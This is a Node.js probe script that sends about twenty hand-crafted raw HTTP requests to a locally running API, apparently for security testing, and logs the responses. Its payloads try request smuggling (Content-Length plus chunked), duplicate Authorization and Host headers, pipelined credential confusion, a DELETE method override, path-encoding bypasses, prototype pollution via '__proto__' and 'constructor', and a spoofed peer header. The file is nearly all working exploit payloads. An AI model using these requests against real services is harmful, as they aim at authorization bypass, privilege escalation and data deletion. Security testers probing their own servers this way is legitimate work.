import net from 'node:net'
const b=(s)=>Buffer.from(s).toString('base64')
const K=b('kim:tandem river quartz lamp'),O=b('boss:owner-very-long-pass-words')
const H='Host: 127.0.0.1:18787\r\n'
const cases={
 'two Authorization (kim, boss)':`GET /api/v1/users/me HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nAuthorization: Basic ${O}\r\nConnection: close\r\n\r\n`,
 'CL+TE':`POST /api/v1/jobs/count HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n`,
 'space before colon':`GET /api/v1/users/me HTTP/1.1\r\n${H}Authorization : Basic ${K}\r\nConnection: close\r\n\r\n`,
 'two Host':`GET /api/v1/users/me HTTP/1.1\r\n${H}Host: evil.example\r\nAuthorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'absolute':`GET http://evil.example/api/v1/users/me HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'pipelined conn: kim then nobody':`GET /api/v1/users/me HTTP/1.1\r\n${H}Authorization: Basic ${O}\r\n\r\nGET /api/v1/users/me HTTP/1.1\r\n${H}Connection: close\r\n\r\n`,
 'pipelined boss then kim':`GET /api/v1/users/me HTTP/1.1\r\n${H}Authorization: Basic ${O}\r\n\r\nGET /api/v1/users/me HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'method override':`POST /api/v1/projects/zznews HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nX-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
 'encoded path':`GET /api/v1/%75sers HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'case path':`GET /API/v1/users HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'dots':`GET /api/v1/x/../users HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'dbl slash':`GET //api//v1//users HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nConnection: close\r\n\r\n`,
 'rpc':`POST /api/rpc/users/list HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
 'rpc odd':`POST /api/rpc/%75sers%2flist HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
 'rpc proto':`POST /api/rpc/__proto__/list HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
 'rpc constructor':`POST /api/rpc/constructor/constructor HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`,
 'rpc proj':(()=>{const x='{"json":{"project":"zznews"}}';return `POST /api/rpc/projects/get HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: ${x.length}\r\nConnection: close\r\n\r\n${x}`})(),
 'rpc meta path':(()=>{const x='{"json":{"ids":["01a22034b4e20000002927fc45f54920"],"force":true},"meta":[[5,"ids"]]}';return `POST /api/rpc/jobs/cancel HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: ${x.length}\r\nConnection: close\r\n\r\n${x}`})(),
 'rpc meta proto':(()=>{const x='{"json":{"project":"zznews","settings":{}},"meta":[[1,"__proto__","polluted"],[4,"constructor","prototype"]]}';return `POST /api/rpc/projects/configure HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: ${x.length}\r\nConnection: close\r\n\r\n${x}`})(),
 'jsonrpc proto':(()=>{const x='{"jsonrpc":"2.0","id":1,"method":"__proto__.constructor","params":{}}';return `POST /api/v1/jsonrpc HTTP/1.1\r\n${H}Authorization: Basic ${K}\r\nContent-Type: application/json\r\nContent-Length: ${x.length}\r\nConnection: close\r\n\r\n${x}`})(),
 'peer header':`GET /api/v1/users/me HTTP/1.1\r\n${H}x-scrapdeck-peer: undefined 1.2.3.4 proxy\r\nConnection: close\r\n\r\n`,
}
for(const [n,t] of Object.entries(cases)){
 const r=await new Promise(res=>{const s=net.connect(18787,'127.0.0.1');let d='';s.on('data',x=>d+=x);s.on('close',()=>res(d));s.on('error',()=>res(d));s.setTimeout(4000,()=>{s.destroy()});s.write(t)})
 const statuses=[...r.matchAll(/HTTP\/1\.1 (\d+)/g)].map(m=>m[1]).join(',')
 console.log(n,'->',statuses,'|',r.split('\r\n\r\n').slice(1).map(x=>x.slice(0,170)).join(' ## ').replace(/\n/g,' ').slice(0,420))
}
